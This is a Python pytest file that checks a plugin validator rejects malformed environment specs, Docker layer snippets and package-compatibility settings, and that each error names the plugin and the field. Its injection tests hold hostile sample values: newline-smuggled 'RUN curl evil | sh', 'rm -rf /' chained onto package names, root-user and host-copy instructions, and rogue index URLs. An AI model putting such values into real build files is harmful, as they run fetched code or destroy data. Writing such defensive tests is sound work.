"""Validation of what plugins return: every bad value names the plugin and the field."""

from __future__ import annotations

import pytest

from puffer_core import BuildStage, CompatAxes, DockerLayer, EnvSpec, KnownBad
from puffer_core.errors import PluginError


def creator():
    return None


@pytest.mark.parametrize(
    ("spec", "field"),
    [
        (EnvSpec("noslash", creator), "id"),
        (EnvSpec("Upper/name", creator), "id"),
        (EnvSpec("a/b/c", creator), "id"),
        (EnvSpec("p/name", None), "creator"),
        (EnvSpec("p/name", "not callable"), "creator"),
        (EnvSpec("p/name", creator, kwargs=[1, 2]), "kwargs"),
        (EnvSpec("p/name", creator, api=""), "api"),
        (EnvSpec("p/name", creator, requires="nle"), "requires"),
        (EnvSpec("p/name", creator, train_defaults=[("num_envs", 8)]), "train_defaults"),
        (EnvSpec("p/name", creator, train_defaults={"num_envs": [8]}), "train_defaults"),
        (EnvSpec("p/name", creator, train_kwargs={1: "x"}), "train_kwargs"),
    ],
)
def test_env_spec_errors_name_plugin_and_field(spec, field):
    with pytest.raises(PluginError) as excinfo:
        spec.validate("myplugin")
    assert excinfo.value.plugin == "myplugin"
    assert excinfo.value.field == field
    assert "plugin 'myplugin'" in str(excinfo.value) and f"'{field}'" in str(excinfo.value)


def test_valid_env_spec_passes_and_splits_its_id():
    spec = EnvSpec("nethack/score", creator, kwargs={"a": 1}, requires=("nle",))
    spec.validate("nethack")
    assert (spec.plugin, spec.name) == ("nethack", "score")


@pytest.mark.parametrize(
    ("layer", "field", "fragment"),
    [
        (DockerLayer(apt=("Bad_Name",)), "apt", "Debian package name"),
        (DockerLayer(apt="cmake"), "apt", "list of strings"),
        (DockerLayer(run=("make\nRUN curl evil | sh",)), "run", "newline"),
        (DockerLayer(run=("FROM ubuntu",)), "run", "FROM and USER"),
        (DockerLayer(run=("user root",)), "run", "FROM and USER"),
        (DockerLayer(env={"1BAD": "x"}), "env", "variable name"),
        (DockerLayer(env={"OK": "two\nlines"}), "env", "one-line"),
        (DockerLayer(pip=("--index-url http://x",)), "pip", "requirements"),
        (DockerLayer(stages=(BuildStage("ok", "debian bookworm"),)), "stages", "one image"),
        (DockerLayer(stages=(BuildStage("ok", "debian:12", artifacts=("relative/path",)),)), "artifacts", "absolute"),
    ],
)
def test_docker_layer_errors(layer, field, fragment):
    with pytest.raises(PluginError) as excinfo:
        layer.validate("p")
    assert field in excinfo.value.field
    assert fragment in str(excinfo.value)
    assert "plugin 'p'" in str(excinfo.value)


# Snippets that could leave the line they are rendered on, or change the image's base or
# user: each is refused with a PluginError naming the plugin, the field and the value.
SMUGGLING = [
    (DockerLayer(run=("make\nRUN curl evil | sh",)), "run", "newline"),
    (DockerLayer(run=("make\rRUN curl evil | sh",)), "run", "newline"),
    (DockerLayer(run=("make\u2028RUN x",)), "run", "newline"),
    (DockerLayer(run=("make \\",)), "run", "continuation"),
    (DockerLayer(run=("make \\  ",)), "run", "continuation"),
    (DockerLayer(run=("cat > /x <<EOF",)), "run", "heredoc"),
    (DockerLayer(run=("cat <<-'END'",)), "run", "heredoc"),
    (DockerLayer(run=("FROM debian:12",)), "run", "FROM and USER"),
    (DockerLayer(run=("  from scratch",)), "run", "FROM and USER"),
    (DockerLayer(run=("USER nobody",)), "run", "FROM and USER"),
    (DockerLayer(run=("COPY / /host",)), "run", "Dockerfile instruction"),
    (DockerLayer(run=("RUN make",)), "run", "Dockerfile instruction"),
    (DockerLayer(run=('ENTRYPOINT ["sh"]',)), "run", "Dockerfile instruction"),
    (DockerLayer(stages=(BuildStage("s", "debian:12", run=("ok", "x\nUSER root")),)), "stages[s].run", "newline"),
    (DockerLayer(stages=(BuildStage("s", "debian:12", run=("USER root",)),)), "stages[s].run", "FROM and USER"),
    (DockerLayer(env={"A": "1\rRUN x"}), "env", "one-line"),
    (DockerLayer(pip=("nle\nRUN x",)), "pip", "requirements"),
    (DockerLayer(pip=("nle; rm -rf /",)), "pip", "not a requirement"),
    (DockerLayer(apt=("curl\nRUN x",)), "apt", "Debian package name"),
    (DockerLayer(apt=("curl && rm -rf /",)), "apt", "Debian package name"),
    (DockerLayer(apt=("curl=7.88",)), "apt", "Debian package name"),
    (DockerLayer(apt=("-y",)), "apt", "Debian package name"),
    (DockerLayer(apt=("x",)), "apt", "Debian package name"),
    (DockerLayer(apt=("Curl",)), "apt", "Debian package name"),
    (DockerLayer(stages=(BuildStage("s", "debian:12", apt=("ok1", "bad name")),)), "stages[s].apt", "Debian package"),
    (DockerLayer(stages=(BuildStage("s", "debian:12\nUSER root"),)), "stages", "one image"),
    (DockerLayer(stages=(BuildStage("Build", "debian:12"),)), "stages", "starting with a letter"),
    (DockerLayer(stages=(BuildStage("1build", "debian:12"),)), "stages", "starting with a letter"),
    (DockerLayer(stages=(BuildStage("s", "debian:12"), BuildStage("s", "debian:12"))), "stages", "two stages"),
    (DockerLayer(stages=(BuildStage("s", "debian:12", artifacts=("/opt/$HOME",)),)), "artifacts", "absolute"),
    (DockerLayer(stages=(BuildStage("s", "debian:12", artifacts=("/opt/../etc",)),)), "artifacts", "'..'"),
]


@pytest.mark.parametrize(("layer", "field", "fragment"), SMUGGLING)
def test_docker_layer_snippets_cannot_smuggle_instructions(layer, field, fragment):
    with pytest.raises(PluginError) as excinfo:
        layer.validate("sneaky")
    error = excinfo.value
    assert error.plugin == "sneaky" and "plugin 'sneaky'" in str(error)
    assert field in error.field
    assert fragment in str(error)
    # The message quotes the offending value (repr, so a newline shows as \n).
    values = [*layer.run, *layer.apt, *layer.pip, *layer.env.values()]
    for stage in layer.stages:
        values += [*stage.run, *stage.apt, *stage.artifacts, stage.base, stage.name]
    assert any(repr(value) in str(error) or value in str(error) for value in values), str(error)


@pytest.mark.parametrize(
    "layer",
    [
        DockerLayer(run=("env FOO=1 make install",)),  # `env` the shell command, not ENV
        DockerLayer(run=("copy_files.sh && run-tests",)),
        DockerLayer(run=("printf '%s\\n' a b > /etc/x",)),  # a literal backslash-n is fine
        DockerLayer(run=("echo 'a \\ b'",)),  # a backslash that does not end the line
        DockerLayer(apt=("g++", "libc6-dev", "lua5.1", "python3.11-venv")),
        DockerLayer(pip=("nle==1.3.0", "pettingzoo[classic]>=1.24", "x @ https://example.invalid/x.whl")),
        DockerLayer(env={"PATH": "/opt/x/bin:$PATH", "GREETING": 'say "hi"'}),
        DockerLayer(stages=(BuildStage("dmlab", "${BASE}", artifacts=("/opt/dmlab/x.whl",)),)),
    ],
)
def test_docker_layer_accepts_ordinary_snippets(layer):
    layer.validate("fine")


def test_valid_docker_layer():
    DockerLayer(
        apt=("libbz2-dev", "g++", "libc6-dev"),
        run=("echo hi && true",),
        env={"A_B": "1"},
        pip=("nle==1.3.0",),
        stages=(BuildStage("build", "debian:bookworm", run=("make",), artifacts=("/opt/x.whl",)),),
    ).validate("p")


@pytest.mark.parametrize(
    ("axes", "field"),
    [
        (CompatAxes("nle", ("not a version",)), "versions"),
        (CompatAxes("nle", ("1.0.0",), python=("3",)), "python"),
        (CompatAxes("nle", ("1.0.0",), pins={"9.9.9": {"gymnasium": "1.0.0"}}), "pins"),
        (CompatAxes("nle", ("1.0.0",), pins={"1.0.0": {"gymnasium": "x.y"}}), "pins[1.0.0][gymnasium]"),
        (CompatAxes("nle", ("1.0.0",), known_bad=(KnownBad({"nle": ">=1.0"}, ""),)), "known_bad"),
        (CompatAxes("nle", ("1.0.0",), known_bad=(KnownBad({"nle": "~~1"}, "r"),)), "known_bad"),
        (CompatAxes("", ("1.0.0",)), "package"),
        # Everything below reaches a `uv pip install` command line: never an option, URL or path.
        (CompatAxes("--index-url=http://127.0.0.1:9/", ("1.0.0",)), "package"),
        (CompatAxes("nle[all]", ("1.0.0",)), "package"),
        (CompatAxes("nle", (" 1.0.0",)), "versions"),
        (CompatAxes("nle", ("1.0.0",), pins={"1.0.0": {"-e.": "1.0.0"}}), "pins[1.0.0]"),
        (CompatAxes("nle", ("1.0.0",), pins={"1.0.0": {"six": "1.0\n"}}), "pins[1.0.0][six]"),
        (CompatAxes("nle", ("1.0.0",), axes={"six @ file:///x": ("1.0",)}), "axes"),
        (CompatAxes("nle", ("1.0.0",), axes={"six": ("--pre",)}), "axes[six]"),
        (CompatAxes("nle", ("1.0.0",), extras=("--index-url=http://127.0.0.1:9/",)), "extras"),
        (CompatAxes("nle", ("1.0.0",), extras=("--find-links", "/tmp")), "extras"),
        (CompatAxes("nle", ("1.0.0",), extras=("six @ https://127.0.0.1:9/six.whl",)), "extras"),
        (CompatAxes("nle", ("1.0.0",), extras=("/tmp/six.whl",)), "extras"),
        # A name ending like an archive is installed as that file, running its build.
        (CompatAxes("nle", ("1.0.0",), extras=("evil-1.0.tar.gz",)), "extras"),
        (CompatAxes("nle", ("1.0.0",), extras=("evil.whl>=1",)), "extras"),
        (CompatAxes("nle", ("1.0.0",), extras=('six; python_version == "3\\x"',)), "extras"),
        (CompatAxes("evil-1.0.tar.gz", ("1.0.0",)), "package"),
        (CompatAxes("nle", ("1.0.0",), axes={"evil.ZIP": ("1.0",)}), "axes"),
        (CompatAxes("nle", ("1.0.0",), extras=(" six",)), "extras"),
        (CompatAxes("nle", ("1.0.0",), known_bad=(KnownBad({}, "everything"),)), "known_bad"),
        (CompatAxes("nle", ("1.0.0",), known_bad=(KnownBad({"--pre": "<1"}, "r"),)), "known_bad"),
        (CompatAxes("nle", ("1.0.0",), known_bad=(KnownBad({"nle": "<1"}, "a\n| b |"),)), "known_bad"),
        (CompatAxes("nle", ("1.0.0",), known_bad=KnownBad({"nle": "<1"}, "r")), "known_bad"),
        (CompatAxes("nle", ("1.0.0",), python=("3.11\n",)), "python"),
    ],
)
def test_compat_axes_errors(axes, field):
    with pytest.raises(PluginError) as excinfo:
        axes.validate("p")
    assert excinfo.value.field == field
    assert "plugin 'p'" in str(excinfo.value) and f"field '{field}'" in str(excinfo.value)


def test_compat_axes_accept_index_requirements_with_extras_specifiers_and_markers():
    CompatAxes(
        "ale-py",
        ("0.10.2", "1.0.0rc1", "2!1.0.post3"),
        pins={"0.10.2": {"Gymnasium": "1.0.0", "zope.interface": "7.0"}},
        axes={"numpy": ("1.26.4", "2.2.6")},
        known_bad=(KnownBad({"ale-py": "<0.10", "Python": ">=3.13"}, "no wheel"),),
        extras=("opencv-python-headless", 'pettingzoo[butterfly,classic]>=1.24; python_version < "3.13"'),
    ).validate("p")


def test_known_bad_matching():
    bad = KnownBad({"nle": ">=1.3", "python": "<3.10"}, "nle 1.3 needs Python 3.10")
    assert bad.matches({"nle": "1.3.0", "python": "3.9"})
    assert not bad.matches({"nle": "1.3.0", "python": "3.11"})
    assert not bad.matches({"nle": "1.2.0", "python": "3.9"})
    assert not bad.matches({"python": "3.9"})
